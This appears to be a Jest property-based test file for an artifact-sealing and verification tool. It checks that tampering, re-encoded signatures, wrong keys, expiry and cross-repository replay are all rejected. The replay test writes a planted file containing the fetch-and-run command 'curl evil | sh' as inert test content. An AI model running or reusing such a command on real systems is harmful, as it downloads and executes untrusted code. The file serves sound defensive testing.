import { test } from '@jest/globals'
import { reporter } from '../helpers/diagnostic.js'
import assert from 'node:assert/strict'
import * as fs from 'node:fs'
import * as path from 'node:path'
import fc from 'fast-check'
import { DIGEST_ALGORITHMS, type DigestAlgorithm } from '../../src/core/algorithms.js'
import { decodeEnvelope } from '../../src/core/dsse.js'
import { LocalHmacKey } from '../../src/core/keys.js'
import { hashMany } from '../../src/core/digest.js'
import { buildStatement, signStatement } from '../../src/core/seal.js'
import { verify, type VerifyReport } from '../../src/core/verify.js'
import { OTHER_KEY_HEX, TEST_KEY_HEX, tempDir } from '../helpers/fixtures.js'
import { checkAsyncProperty } from '../helpers/property.js'

const CONTEXT = {
  repository: 'acme/widgets',
  commit: 'c'.repeat(40),
  ref: 'refs/heads/main',
  workflowRef: null,
  runId: '1',
  runAttempt: '1',
  serverUrl: null,
  job: null,
  label: null,
  eventName: null,
  runnerEnvironment: null,
  workflowSha: null
}
const key = (hex: string, algorithm: DigestAlgorithm) => new LocalHmacKey(Buffer.from(hex, 'hex'), algorithm)

/** A small sealed set: distinct file names with arbitrary bytes, sealed with the test key and maybe other keys. */
const sealedSet = fc.record({
  files: fc.uniqueArray(
    fc.tuple(fc.stringMatching(/^[a-z0-9_-]{1,8}(\/[a-z0-9_-][a-z0-9._-]{0,7})?$/), fc.uint8Array({ maxLength: 96 })),
    {
      minLength: 1,
      maxLength: 4,
      selector: ([name]) => name.split('/')[0]
    }
  ),
  algorithm: fc.constantFrom(...DIGEST_ALGORITHMS),
  // Signatures by keys the verifier does not hold never rescue a tampered manifest.
  extraKeys: fc.array(fc.uint8Array({ minLength: 32, maxLength: 32 }), { maxLength: 2 })
})

type SealedSet = { files: [string, Uint8Array][]; algorithm: DigestAlgorithm; extraKeys: Uint8Array[] }

async function makeSealed(set: SealedSet): Promise<{ dir: string; manifest: Buffer; manifestPath: string }> {
  const dir = tempDir('artifact-seal-tamper-')
  for (const [name, bytes] of set.files) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true })
    fs.writeFileSync(path.join(dir, name), bytes)
  }
  const manifestPath = path.join(dir, 'artifact-seal.json')
  // The names are known, so seal's glob step is skipped (it logs every search as a debug line).
  const outcomes = await hashMany(
    dir,
    set.files.map(([name]) => name),
    set.algorithm
  )
  const statement = buildStatement(
    outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))),
    set.algorithm,
    CONTEXT,
    new Date()
  )
  const keys = [key(TEST_KEY_HEX, set.algorithm), ...set.extraKeys.map(k => new LocalHmacKey(k, set.algorithm))]
  const { bytes } = await signStatement(statement, keys)
  return { dir, manifest: bytes, manifestPath }
}

function verifyWith(
  dir: string,
  manifestPath: string,
  bytes: Buffer,
  algorithm: DigestAlgorithm
): Promise<VerifyReport> {
  return verify({
    manifestPath,
    manifestBytes: bytes,
    baseDir: dir,
    algorithm,
    keys: [key(TEST_KEY_HEX, algorithm)],
    expectedRepository: 'acme/widgets'
  })
}

type Envelope = { payloadType: string; payload: string; signatures: { keyid: string; sig: string }[] }
const reencode = (e: Envelope): Buffer => Buffer.from(JSON.stringify(e))
const codes = (r: VerifyReport) => r.problems.map(p => p.code)

test('tamper: any single-byte change to a file, the payload, the payloadType or a signature fails verify', async () => {
  const sealedCases = await checkAsyncProperty(
    reporter,
    'a sealed set verifies, and fails after a single-byte change anywhere that is signed',
    fc.asyncProperty(
      sealedSet,
      fc.constantFrom('file', 'payload', 'payloadType', 'signature'),
      fc.nat(),
      fc.integer({ min: 1, max: 255 }),
      async (set, target, at, delta) => {
        const { dir, manifest, manifestPath } = await makeSealed(set)
        try {
          const intact = await verifyWith(dir, manifestPath, manifest, set.algorithm)
          assert.equal(intact.result, 'verified', JSON.stringify(intact.problems))
          const envelope = JSON.parse(manifest.toString()) as Envelope
          let expected: string
          let bytes = manifest
          if (target === 'file') {
            const [name] = set.files[at % set.files.length]
            const content = Buffer.from(fs.readFileSync(path.join(dir, name)))
            // An empty file's only single-byte change is a byte added.
            if (content.length === 0) fs.writeFileSync(path.join(dir, name), Buffer.from([delta]))
            else {
              content[at % content.length] ^= delta
              fs.writeFileSync(path.join(dir, name), content)
            }
            expected = 'DIGEST_MISMATCH'
          } else if (target === 'payload') {
            const payload = Buffer.from(envelope.payload, 'base64')
            payload[at % payload.length] ^= delta
            envelope.payload = payload.toString('base64')
            bytes = reencode(envelope)
            expected = 'SIGNATURE_INVALID'
          } else if (target === 'payloadType') {
            const type = Buffer.from(envelope.payloadType, 'utf8')
            type[at % type.length] = 0x20 + ((type[at % type.length] - 0x20 + (delta % 94) + 1) % 95) // another printable ASCII byte
            envelope.payloadType = type.toString('utf8')
            bytes = reencode(envelope)
            expected = 'SIGNATURE_INVALID'
          } else {
            const sig = Buffer.from(envelope.signatures[0].sig, 'base64')
            sig[at % sig.length] ^= delta
            envelope.signatures[0].sig = sig.toString('base64')
            bytes = reencode(envelope)
            expected = 'SIGNATURE_INVALID'
          }
          const report = await verifyWith(dir, manifestPath, bytes, set.algorithm)
          assert.equal(report.result, 'failed')
          assert.ok(
            codes(report).includes(expected as never),
            `${target}: expected ${expected}, got ${codes(report).join(', ')}`
          )
          if (expected === 'SIGNATURE_INVALID')
            assert.equal(report.statement, null, 'nothing in an unauthenticated envelope is used')
        } finally {
          fs.rmSync(dir, { recursive: true, force: true })
        }
      }
    ),
    { numRuns: 150 }
  )

  const rawCases = await checkAsyncProperty(
    reporter,
    'any single-byte change to the manifest file fails verify unless it leaves the signed bytes unchanged',
    fc.asyncProperty(sealedSet, fc.nat(), fc.integer({ min: 1, max: 255 }), async (set, at, delta) => {
      const { dir, manifest, manifestPath } = await makeSealed(set)
      try {
        const bytes = Buffer.from(manifest)
        bytes[at % bytes.length] ^= delta
        const report = await verifyWith(dir, manifestPath, bytes, set.algorithm)
        if (report.result === 'verified') {
          // Only formatting, the unauthenticated keyid hint, or base64 bits that decode to the same bytes may change.
          const before = decodeEnvelope(JSON.parse(manifest.toString()))
          const after = decodeEnvelope(JSON.parse(bytes.toString()))
          assert.equal(after.payloadType, before.payloadType)
          assert.deepEqual(after.payload, before.payload)
          assert.ok(after.signatures.some(s => before.signatures.some(b => b.sig.equals(s.sig))))
        }
      } finally {
        fs.rmSync(dir, { recursive: true, force: true })
      }
    }),
    { numRuns: 150 }
  )
  assert.ok(sealedCases.cases + rawCases.cases >= 40)
})

/** Every base64 spelling of the same bytes: the contract's accepted ones and some it does not accept. */
function spellings(bytes: Buffer, at: number): { text: string; accepted: boolean }[] {
  const std = bytes.toString('base64')
  const url = bytes.toString('base64url')
  const cut = at % (std.length + 1)
  return [
    { text: std, accepted: true },
    { text: std.replace(/=+$/, ''), accepted: true },
    { text: url, accepted: true },
    { text: url + '='.repeat((4 - (url.length % 4)) % 4), accepted: true },
    { text: std.slice(0, cut) + ' ' + std.slice(cut), accepted: false },
    { text: std.slice(0, cut) + '\n' + std.slice(cut), accepted: false },
    { text: '\t' + std, accepted: false },
    { text: std + '\r\n', accepted: false },
    { text: std.replace(/=+$/, '') + '===', accepted: false }
  ]
}

test('tamper: re-encoding the same bytes differently never makes a bad signature pass', async () => {
  const set: SealedSet = { files: [['app.bin', Buffer.from('the artifact')]], algorithm: 'sha256', extraKeys: [] }
  const { dir, manifest, manifestPath } = await makeSealed(set)
  try {
    await checkAsyncProperty(
      reporter,
      'bad signatures and payloads stay bad in every base64 spelling and under any keyid; good ones pass only in accepted spellings',
      fc.asyncProperty(
        fc.constantFrom('good', 'flipped', 'random', 'truncated', 'extended'),
        fc.nat(),
        fc.integer({ min: 1, max: 255 }),
        fc.boolean(),
        fc.uint8Array({ minLength: 1, maxLength: 64 }),
        fc.oneof(fc.constant(null), fc.string({ maxLength: 40 })),
        async (kind, at, delta, respellPayload, random, keyid) => {
          const envelope = JSON.parse(manifest.toString()) as Envelope
          const good = Buffer.from(envelope.signatures[0].sig, 'base64')
          let sig: Buffer = Buffer.from(good)
          if (kind === 'flipped') sig[at % sig.length] ^= delta
          if (kind === 'random') sig = Buffer.from(random)
          if (kind === 'truncated') sig = sig.subarray(0, at % sig.length)
          if (kind === 'extended') sig = Buffer.concat([sig, Buffer.from([delta])])
          const sigIsGood = sig.equals(good)
          for (const spelled of spellings(sig, at)) {
            const e = structuredClone(envelope)
            e.signatures[0].sig = spelled.text
            if (respellPayload) e.payload = Buffer.from(envelope.payload, 'base64').toString('base64url')
            // keyid is an unauthenticated hint: a wrong or unknown one changes nothing either way.
            if (keyid !== null) e.signatures[0].keyid = keyid
            const report = await verifyWith(dir, manifestPath, reencode(e), 'sha256')
            const shouldPass = sigIsGood && spelled.accepted && spelled.text.length > 0
            assert.equal(
              report.result,
              shouldPass ? 'verified' : 'failed',
              `${kind} sig spelled ${JSON.stringify(spelled.text)}: ${codes(report).join(', ')}`
            )
          }
        }
      ),
      { numRuns: 120 }
    )
    // The verifier takes the algorithm from its own configuration: a manifest sealed with sha256 never passes a sha512 verifier.
    const other = await verify({
      manifestPath,
      manifestBytes: manifest,
      baseDir: dir,
      algorithm: 'sha512',
      keys: [key(TEST_KEY_HEX, 'sha512')]
    })
    assert.deepEqual(codes(other), ['SIGNATURE_INVALID'])
    const wrongKey = await verify({
      manifestPath,
      manifestBytes: manifest,
      baseDir: dir,
      algorithm: 'sha256',
      keys: [key(OTHER_KEY_HEX, 'sha256')]
    })
    assert.deepEqual(codes(wrongKey), ['SIGNATURE_INVALID'])
  } finally {
    fs.rmSync(dir, { recursive: true, force: true })
  }
})

test('replay: a validly signed manifest that expired, is older than max-age, comes from another repository or commit, or misses a planted file fails', async () => {
  const dir = tempDir('artifact-seal-replay-')
  try {
    fs.writeFileSync(path.join(dir, 'app.bin'), 'v1')
    const algorithm = 'sha256'
    const outcomes = await hashMany(dir, ['app.bin'], algorithm)
    const created = new Date('2026-01-01T00:00:00Z')
    const statement = buildStatement(
      outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))),
      algorithm,
      CONTEXT,
      created,
      3600_000
    )
    const { bytes } = await signStatement(statement, [key(TEST_KEY_HEX, algorithm)])
    const manifestPath = path.join(dir, 'artifact-seal.json')
    fs.writeFileSync(manifestPath, bytes)
    const run = (extra: Partial<Parameters<typeof verify>[0]>) =>
      verify({
        manifestPath,
        baseDir: dir,
        algorithm,
        keys: [key(TEST_KEY_HEX, algorithm)],
        now: new Date(created.getTime() + 60_000),
        ...extra
      }).then(codes)
    assert.deepEqual(await run({}), [], 'the control: within its lifetime, from the expected place, it verifies')
    assert.deepEqual(await run({ now: new Date(created.getTime() + 3600_000) }), ['EXPIRED'])
    assert.deepEqual(await run({ maxAgeMs: 30_000 }), ['TOO_OLD'])
    assert.deepEqual(await run({ now: new Date(created.getTime() - 3600_000), maxAgeMs: 30_000 }), [
      'CREATED_IN_FUTURE'
    ])
    assert.deepEqual(await run({ expectedRepository: 'evil/fork', expectedCommit: 'd'.repeat(40) }), [
      'REPOSITORY_MISMATCH',
      'COMMIT_MISMATCH'
    ])
    fs.writeFileSync(path.join(dir, 'planted.sh'), 'curl evil | sh')
    assert.deepEqual(await run({ patterns: [path.join(dir, '**')] }), ['UNLISTED_FILE'])
    assert.deepEqual(await run({ patterns: [path.join(dir, '**')], allowUnlisted: true }), [])
  } finally {
    fs.rmSync(dir, { recursive: true, force: true })
  }
})
